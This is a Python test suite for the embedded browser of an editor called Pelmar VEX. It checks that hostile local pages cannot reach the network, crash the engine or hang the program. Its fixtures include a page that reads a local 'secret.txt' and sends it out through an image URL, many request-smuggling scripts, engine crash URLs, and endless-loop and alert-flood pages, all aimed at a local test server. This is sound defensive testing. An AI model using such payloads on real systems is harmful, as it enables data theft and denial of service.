"""The internal browser of the real program with pages that mean no good, looked at from outside: by the colours on the
screen, the titles of the windows, and what arrives at a server of this machine."""

import re
import shutil
import subprocess
import time
import unittest

from counting_server import CountingServer
from harness import AS_USER, PROGRAM, EditorCase, built

MODULE = built("pelmar-browser.so")
GREEN, BLUE, PINK = "#00c000", "#2000f0", "#ff00ff"
ALONE = re.compile(r"HTML [Tt]estovací +browser.*")  # whatever page it shows
# Nothing of these tests goes beyond this machine.
NO_NETWORK = {**{name: "http://127.0.0.1:9" for name in ("http_proxy", "https_proxy")}, "no_proxy": "127.0.0.1"}
LINK = f'<IMG WIDTH="60" HEIGHT="60" STYLE="background:{BLUE}" ALT="">'

# Pages that try to reach SITE by themselves; DONE tells in the title that they have begun to.
PEER = """DONE; var peer = new (WHERE.RTCPeerConnection)({iceServers: [{urls: 'stun:SITE'},
    {urls: 'turn:SITE', username: 'secret', credential: 'x'},
    {urls: 'turn:SITE?transport=tcp', username: 'secret', credential: 'x'}]});
    peer.createDataChannel('a'); peer.createOffer().then(offer => peer.setLocalDescription(offer));"""
RELATIONS = ("prefetch", "preload", "preconnect", "modulepreload", "icon", "stylesheet")
IN_FRAME = '<IFRAME SRCDOC="<BODY><SCRIPT>%s</SCRIPT>"></IFRAME>'
SENDING = {
    "peer": f"<SCRIPT>{PEER.replace('WHERE', 'window')}</SCRIPT>",
    "peer of a frame": f"<IFRAME></IFRAME><SCRIPT>{PEER.replace('WHERE', 'frames[0]')}</SCRIPT>",
    "peer in a frame": IN_FRAME % PEER.replace("WHERE", "window"),
    "socket in a frame": IN_FRAME % "DONE; new WebSocket('ws://SITE/socket');",
    "worker": """<SCRIPT>var w = new Worker(URL.createObjectURL(new Blob([`new WebSocket('ws://SITE/w');
        fetch('http://SITE/w', {mode: 'no-cors'}).catch(e => 0);
        postMessage(0)`]))); w.onmessage = () => DONE</SCRIPT>""",
    "requests": """<SCRIPT>new EventSource('http://SITE/events'); navigator.sendBeacon('http://SITE/beacon', 'x');
        fetch('http://SITE/fetch', {mode: 'no-cors', keepalive: true}).catch(e => 0);
        var r = new XMLHttpRequest; r.open('POST', 'http://SITE/xhr'); r.send('x'); new WebSocket('ws://SITE/socket');
        try { new WebTransport('https://SITE/transport') } catch (e) {}
        try { navigator.serviceWorker.register('http://SITE/worker.js').catch(e => 0) } catch (e) {}
        try { new SharedWorker('http://SITE/shared.js') } catch (e) {}
        import('http://SITE/module.js').catch(e => 0); open('http://SITE/window'); DONE</SCRIPT>""",
    "links": "".join(f"<LINK REL='{relation}' AS='image' HREF='http://SITE/{relation}'>" for relation in RELATIONS)
        + "<A HREF='#x' PING='http://SITE/ping'>x</A><SCRIPT>document.links[0].click(); DONE</SCRIPT>",
    "parts": """<STYLE>@import 'http://SITE/style'; @font-face { font-family: f; src: url(http://SITE/font) }
        P { font-family: f; background: url(http://SITE/background) }</STYLE><P>x
        <SCRIPT SRC='http://SITE/script'></SCRIPT><IMG SRC='http://SITE/img' SRCSET='http://SITE/set 2x'>
        <VIDEO AUTOPLAY SRC='http://SITE/video' POSTER='http://SITE/p'></VIDEO>
        <AUDIO AUTOPLAY SRC='http://SITE/audio'></AUDIO><SVG><image href='http://SITE/svg'/></SVG>
        <IFRAME SRC='http://SITE/frame'></IFRAME><OBJECT DATA='http://SITE/object'></OBJECT>
        <IFRAME SRCDOC="<META HTTP-EQUIV='refresh' CONTENT='0; URL=http://SITE/refresh'>"></IFRAME>
        <EMBED SRC='http://SITE/embed'><SCRIPT>DONE</SCRIPT>""",
    "form": """<IFRAME NAME='in'></IFRAME><FORM TARGET='in' METHOD='post' ACTION='http://SITE/form'></FORM>
        <FORM METHOD='post' ACTION='http://SITE/form2'></FORM>
        <SCRIPT>document.forms[0].submit(); document.forms[1].submit(); DONE</SCRIPT>""",
    "refresh": "<TITLE>refresh</TITLE><META HTTP-EQUIV='refresh' CONTENT='0; URL=http://SITE/refresh'>",
}
ASKING = ("form", "refresh")  # those that would go there as a whole


def name_spaces_work():
    return subprocess.run([*AS_USER, "unshare", "-U", "true"], stderr=subprocess.DEVNULL).returncode == 0


@unittest.skipUnless(MODULE.exists(), "the browser module is not built")
class BrowserTest(EditorCase):
    settings = {"width": 13500}
    environment = NO_NETWORK

    def serve(self):
        server = CountingServer(f'<TITLE>Sit</TITLE><BODY BGCOLOR="{PINK}">')
        self.addCleanup(server.close)
        return server, f"127.0.0.1:{server.port}"

    def write(self, name, text):
        path = self.session.home / name
        path.write_bytes(text.encode("cp1250"))
        return path

    def ask_for_browser(self):
        """The last item of the menu Html."""
        self.session.key("alt+s", *["Right"] * 4, "Up", "Return")

    def show(self, path, title):
        """Opens the document, and the browser with it."""
        main = self.start_with(path)
        self.ask_for_browser()
        return main, self.shown(title)

    def shown(self, title):
        return self.session.wait_window(f"HTML testovací browser ({title})", patience=30)

    def visit(self, address):
        self.session.key("alt+a", "ctrl+a")
        self.session.type(f"{address}\n")

    def click_link(self, browser):
        left, top, width, height = self.session.wait_colored(browser, BLUE)
        self.session.click(browser, left + width // 2, top + height // 2)

    def test_a_page_gets_no_window_no_download_and_asks_in_czech(self):
        session = self.session
        self.write("nova.html", "<TITLE>Nova</TITLE>")
        session.run("tar", "-czf", f"{session.home}/balik.tar.gz", "-C", session.home, "nova.html")
        path = self.write("stranka.html", f"""<TITLE>Stranka</TITLE><BODY onload="alert('<B>ahoj')">
            <A ID="d" HREF="balik.tar.gz" DOWNLOAD>balik</A><BR><A HREF="nova.html" TARGET="_blank">{LINK}</A>
            <SCRIPT>document.getElementById("d").click()</SCRIPT>""")
        self.start_with(path)
        self.ask_for_browser()
        self.answer("Zpráva stránky")
        browser = self.shown("Stranka")
        self.click_link(browser)
        self.wait_title(browser, "HTML testovací browser (Nova)")
        self.assertEqual(len(session.windows()), 2)
        self.assertEqual(list(session.home.rglob("balik*")), [session.home / "balik.tar.gz"])

    def test_a_local_page_reaches_the_net_only_by_the_persons_word(self):
        session = self.session
        server, site = self.serve()
        self.write("secret.txt", "secret")
        path = self.write("stranka.html", f"""<TITLE>Stránka</TITLE><IMG SRC="http://{site}/picture">
            <IFRAME SRC="secret.txt" onload="
              document.title = this.contentDocument.body.innerText; new Image().src='http://{site}/' + document.title">
            </IFRAME><A HREF="http://{site}/link">{LINK}</A>""")
        _, browser = self.show(path, "secret")
        for key, title in (("Return", "secret"), ("alt+a", "Sit")):  # No is the default
            self.click_link(browser)
            self.answer("Pelmar VEX", key)
            self.wait_title(browser, f"HTML testovací browser ({title})")
        self.session.wait_colored(browser, PINK)
        self.assertEqual(server.paths(), ["/link"])
        # With its picture, once, and without its scripts.
        session.key("alt+Left")
        self.wait_title(browser, "HTML testovací browser (secret)")
        session.key("alt+n")
        self.wait_title(browser, "HTML testovací browser (Stránka)")
        session.wait_until(lambda: server.paths() == ["/link", "/picture"], "the picture")
        session.key("F5")
        self.wait_title(browser, "HTML testovací browser (secret)")
        self.assertEqual(server.paths(), ["/link", "/picture"])

    def test_a_local_page_sends_nothing_out(self):
        server, site = self.serve()
        browser = self.start("-BROWSER", title=ALONE)
        for name, page in SENDING.items():
            with self.subTest(name):
                page = page.replace("DONE", f"top.document.title = '{name}'").replace("SITE", site)
                self.visit(f"file://{self.write('page.html', page)}")
                if name in ASKING:
                    self.answer("Pelmar VEX")  # No is the default
                self.wait_title(browser, f"HTML testovací browser ({name})")
                self.assertEqual(server.arrived, [])
        # What is typed goes out, so the server would have heard.
        self.visit(f"http://{site}/typed")
        self.wait_title(browser, "HTML testovací browser (Sit)")
        self.assertEqual(server.paths(), ["/typed"])

    def test_addresses_within_the_engine_are_refused(self):
        server, site = self.serve()
        crash = "chrome://inducebrowsercrashforrealz"
        path = self.write("a.html", f"""<TITLE>A</TITLE><A HREF="{crash}">{LINK}</A><SCRIPT>
            for (const address of ['{crash}', 'chrome://gpucrash', 'view-source:file:///', 'devtools://x', 'qrc:/x'])
              {{ try {{ location = address }} catch (e) {{}} }}</SCRIPT>""")
        browser = self.start("-BROWSER", title=ALONE)
        self.visit(f"file://{path}")
        self.wait_title(browser, "HTML testovací browser (A)")
        self.visit(crash)
        self.answer("Interní browser")
        self.click_link(browser)
        self.visit(f"http://{site}/?to={crash}")
        self.session.wait_until(server.paths, "the redirect")
        self.visit(f"http://{site}/")
        self.wait_title(browser, "HTML testovací browser (Sit)")

    def renderers(self):
        """The numbers of the pages' processes."""
        rows = [line.split(None, 2) for line in self.session.run("ps", "-eo", "pid,pgid,args").split("\n")]
        return {row[0] for row in rows if row[1:2] == [str(self.session.program.pid)] and "--type=renderer" in row[2]}

    def test_a_page_that_wont_stop_is_ended(self):
        session = self.session
        good = self.write("good.html", f'<TITLE>Good</TITLE><BODY BGCOLOR="{GREEN}">')
        main, browser = self.show(good, "Good")
        for name, endless in (("loop", "for (;;);"), ("windows", "for (;;) window.open('windows.html');"),
                              ("recursion", "(function deep() { try { deep() } catch (e) { deep() } })();")):
            script = f"setTimeout(() => {{ document.title = '{name}'; {endless} }}, 300)"
            path = self.write(f"{name}.html", f"<SCRIPT>{script}</SCRIPT>")
            for way in ("address", "stop", "close"):
                with self.subTest(name, way=way):
                    self.visit(f"file://{path}")
                    self.wait_title(browser, f"HTML testovací browser ({name})")
                    before = self.renderers()
                    if way == "address":
                        self.visit(f"file://{good}")
                    elif way == "stop":
                        session.key("Escape")
                    else:
                        session.close(browser)
                        session.wait_gone(browser)
                    session.wait_until(lambda: not before & self.renderers(), "the end of the page", 8)
                    if way == "stop":
                        self.visit(f"file://{good}")
                    elif way == "close":
                        session.activate(main)
                        self.ask_for_browser()
                    browser = self.shown("Good")
                    self.session.wait_colored(browser, GREEN)

    def test_a_pages_questions_leave_the_editor_alone_and_end_by_the_persons_word(self):
        session = self.session
        path = self.write("alerts.html", """<TITLE>alerts</TITLE><SCRIPT>setTimeout(() => {
            for (let i = 0; i < 500; ++i) alert(i); document.title = 'done' }, 300)</SCRIPT>""")
        main = self.start_with(path)
        self.ask_for_browser()
        box = session.wait_window("Zpráva stránky", patience=30)
        session.activate(main)
        session.type("x")
        self.wait_changed(main)
        time.sleep(3.5)  # a page that waits for its answer is not a stuck one
        session.activate(box)

        def silenced():
            if session.window("Zpráva stránky"):
                session.key("alt+d", "Return")
            return session.window("HTML testovací browser (done)")
        session.wait_until(silenced, "the end of the questions")

    @unittest.skipUnless(name_spaces_work(), "an ordinary user gets no name space here, and the engine no sandbox")
    def test_an_ordinary_user_gets_the_sandbox(self):
        session = self.session
        path = self.write("a.html", f'<TITLE>A</TITLE><BODY BGCOLOR="{GREEN}">')
        for file in (PROGRAM, MODULE):
            shutil.copy(file, session.home)
        session.start_as_user(session.home / PROGRAM.name, path, **NO_NETWORK)
        session.wait_window(f"Pelmar VEX ({path})")
        self.ask_for_browser()
        self.session.wait_colored(self.shown("A"), GREEN)
        listing = session.run("ps", "-eo", "pgid,args")
        engine = [line for line in listing.split("\n") if line.split()[:1] == [str(session.program.pid)]]
        self.assertTrue(any("QtWebEngineProcess" in line for line in engine), listing)
        self.assertFalse(any("--no-sandbox" in line for line in engine), listing)


if __name__ == "__main__":
    unittest.main()
